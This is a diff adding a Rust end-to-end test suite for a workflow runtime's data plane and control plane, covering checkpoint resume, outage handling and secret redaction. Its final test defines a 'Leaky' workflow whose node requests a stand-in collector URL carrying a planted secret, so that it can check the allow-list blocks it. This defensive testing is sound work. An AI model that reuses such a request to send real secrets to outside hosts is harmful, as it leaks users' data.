@@ -1,0 +1,294 @@
+//! The data plane against a real control plane over HTTP on 127.0.0.1 (SQLite): a whole run, a data plane
+//! lost mid-run and another resuming from the checkpoint, the control plane away for a while, and a
+//! planted secret that never reaches the control plane.
+
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::Duration;
+
+use dp_runtime::nodes::{NodeContext, NodeError};
+use dp_runtime::tools::{Tool, ToolFuture, ToolRegistry};
+use manifest::Risk;
+use serde_json::{Value, json};
+
+use crate::cp::{Cp, Dp, DpSetup, NORMALIZER, no_extra_tools};
+
+const LIMIT: Duration = Duration::from_secs(30);
+
+fn normalizer_inputs() -> Value {
+    json!({"billing_source": "data", "period": "2025-11"})
+}
+
+#[actix_web::test]
+async fn a_billing_normalizer_run_goes_from_queued_to_succeeded_with_events_and_checkpoints() {
+    let cp = Cp::start().await;
+    let at = cp.install(NORMALIZER, &["billing:read", "reports:write"]).await;
+    let run = cp.start_run(&at, normalizer_inputs()).await;
+    assert_eq!(cp.run(&at, &run).await["state"], "queued");
+
+    let dp = Dp::start(DpSetup {
+        cp: &cp,
+        credential: &at.credential,
+        instance: "dp-a",
+        extra: no_extra_tools,
+        secrets: vec![],
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["outputs"]["records"], 15000);
+    assert_eq!(view["outputs"]["payload_ref"], "report://normalized-2025-11");
+    assert_eq!(view["outputs"]["total_cost"], "65229.0695");
+    assert_eq!(view["usage"]["units"]["records"], 15000, "{view:#}");
+    let timeline: Vec<&str> = view["timeline"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|step| step["node"].as_str())
+        .collect();
+    assert_eq!(view["outputs"]["services"], 15);
+    for node in ["normalize", "services", "files", "result"] {
+        assert!(
+            timeline.contains(&node),
+            "{node} is not in the timeline: {timeline:?}"
+        );
+    }
+
+    let events = cp.events(&at, &run).await;
+    let checkpoints: Vec<&Value> = events
+        .iter()
+        .filter(|event| event["type"] == "checkpoint")
+        .collect();
+    assert_eq!(checkpoints.len(), 4, "one checkpoint per node: {events:#?}");
+    let last = &checkpoints[3]["checkpoint"]["nodes"];
+    assert_eq!(last.as_object().unwrap().len(), 4);
+    assert_eq!(dp.metrics.tasks_succeeded.load(Ordering::Relaxed), 1);
+    dp.stop().await;
+}
+
+static FIRST_RUNS: AtomicU32 = AtomicU32::new(0);
+
+/// Counts its calls.
+struct Count;
+
+impl Tool for Count {
+    fn name(&self) -> &str {
+        "test.count"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, _input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async {
+            let calls = FIRST_RUNS.fetch_add(1, Ordering::SeqCst) + 1;
+            Ok(json!({"calls": calls}))
+        })
+    }
+}
+
+/// Never finishes: the data plane running it is lost before it does.
+struct Hang;
+
+impl Tool for Hang {
+    fn name(&self) -> &str {
+        "test.hold"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, _input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async {
+            tokio::time::sleep(Duration::from_secs(3600)).await;
+            Err(NodeError::fatal("unreachable"))
+        })
+    }
+}
+
+/// Passes its input on.
+struct Pass;
+
+impl Tool for Pass {
+    fn name(&self) -> &str {
+        "test.hold"
+    }
+    fn scopes(&self) -> &[&str] {
+        &[]
+    }
+    fn risk(&self) -> Risk {
+        Risk::Low
+    }
+    fn call<'a>(&'a self, input: Value, _ctx: &'a NodeContext) -> ToolFuture<'a> {
+        Box::pin(async move { Ok(json!({"passed": input})) })
+    }
+}
+
+fn hanging_tools(tools: &mut ToolRegistry) {
+    tools.register(Count).register(Hang);
+}
+
+fn passing_tools(tools: &mut ToolRegistry) {
+    tools.register(Count).register(Pass);
+}
+
+const RESUMABLE: &str = r#"
+id: com.example.e2e.resumable
+name: Resumable
+version: 1.0.0
+description: Two steps; the second outlives the first data plane.
+category: testing
+workflow:
+  nodes:
+    - { id: first, kind: tool, config: { tool: test.count, input: {} } }
+    - { id: second, kind: tool, config: { tool: test.hold, input: $/first } }
+  edges:
+    - { from: first, to: second }
+tools:
+  - { name: test.count, risk: low }
+  - { name: test.hold, risk: low }
+"#;
+
+#[actix_web::test]
+async fn a_data_plane_lost_mid_run_is_replaced_by_another_that_resumes_from_the_checkpoint() {
+    let cp = Cp::start().await;
+    let at = cp.install(RESUMABLE, &[]).await;
+    let run = cp.start_run(&at, json!({})).await;
+    let lost = Dp::start(DpSetup {
+        cp: &cp,
+        credential: &at.credential,
+        instance: "dp-lost",
+        extra: hanging_tools,
+        secrets: vec![],
+    });
+    // Wait until the first node's checkpoint is stored, then lose the data plane with its task.
+    let deadline = tokio::time::Instant::now() + LIMIT;
+    loop {
+        let view = cp.run(&at, &run).await;
+        let done = view["timeline"].as_array().is_some_and(|steps| {
+            steps
+                .iter()
+                .any(|step| step["node"] == "first" && step["status"] == "succeeded")
+        });
+        if done {
+            break;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "the first node never finished: {view:#}"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    lost.handle.abort();
+    cp.expire_leases().await;
+
+    let other = Dp::start(DpSetup {
+        cp: &cp,
+        credential: &at.credential,
+        instance: "dp-other",
+        extra: passing_tools,
+        secrets: vec![],
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["outputs"], json!({"passed": {"calls": 1}}), "{view:#}");
+    assert_eq!(
+        FIRST_RUNS.load(Ordering::SeqCst),
+        1,
+        "the finished node ran again"
+    );
+    assert_eq!(view["attempts"], 2);
+    other.stop().await;
+}
+
+#[actix_web::test]
+async fn the_data_plane_rides_out_a_control_plane_outage() {
+    let mut cp = Cp::start().await;
+    let at = cp.install(NORMALIZER, &["billing:read", "reports:write"]).await;
+    let dp = Dp::start(DpSetup {
+        cp: &cp,
+        credential: &at.credential,
+        instance: "dp-patient",
+        extra: no_extra_tools,
+        secrets: vec![],
+    });
+    let deadline = tokio::time::Instant::now() + LIMIT;
+    while !dp.metrics.registered.load(Ordering::Relaxed) {
+        assert!(tokio::time::Instant::now() < deadline, "never registered");
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    cp.stop().await;
+    tokio::time::sleep(Duration::from_secs(5)).await;
+    assert!(
+        dp.metrics.control_plane_errors.load(Ordering::Relaxed) > 0,
+        "the data plane did not notice the outage"
+    );
+    assert!(!dp.handle.is_finished(), "the data plane gave up");
+    cp.serve();
+    let run = cp.start_run(&at, normalizer_inputs()).await;
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(view["outputs"]["records"], 15000);
+    dp.stop().await;
+}
+
+const LEAKY: &str = r#"
+id: com.example.e2e.leaky
+name: Leaky
+version: 1.0.0
+description: Tries to send its input out in every way it can.
+category: testing
+workflow:
+  nodes:
+    - id: leak
+      kind: tool
+      config: { tool: http_request, input: { url: "https://leak.example/collect?key=${/inputs/note}" } }
+      on_error: continue
+    - id: echo
+      kind: transform
+      config: { input: { note: $/inputs/note, key: $/inputs/key, error: $/leak/error } }
+  edges:
+    - { from: leak, to: echo }
+tools:
+  - { name: http_request, risk: medium }
+"#;
+
+#[actix_web::test]
+async fn a_planted_secret_never_reaches_the_control_plane() {
+    const PLANTED: &str = "planted-secret-4f9a2c";
+    const API_KEY: &str = "sk-live0123456789abcdefXYZ";
+    let cp = Cp::start().await;
+    let at = cp.install(LEAKY, &[]).await;
+    let run = cp
+        .start_run(
+            &at,
+            json!({"note": PLANTED, "key": format!("use {API_KEY} please")}),
+        )
+        .await;
+    let dp = Dp::start(DpSetup {
+        cp: &cp,
+        credential: &at.credential,
+        instance: "dp-careful",
+        extra: no_extra_tools,
+        secrets: vec![PLANTED.to_owned()],
+    });
+    let view = cp.wait_for(&at, &run, "succeeded", LIMIT).await;
+    assert_eq!(
+        view["outputs"],
+        json!({
+            "note": "[REDACTED]",
+            "key": "use [REDACTED] please",
+            "error": "http_request: `https://leak.example/collect?key=[REDACTED]` is not on this data plane's allow-list; nothing was sent"
+        })
+    );
+    let events = cp.events(&at, &run).await;
+    let sent: Vec<&Value> = events.iter().filter(|event| event["type"] != "end").collect();
+    assert!(sent.len() >= 5, "{events:#?}");
+    let text = serde_json::to_string(&sent).unwrap();
+    assert!(
+        !text.contains(PLANTED) && !text.contains(API_KEY),
+        "a secret reached the control plane: {text}"
+    );
+    assert!(text.contains("[REDACTED]"));
+    dp.stop().await;
+}
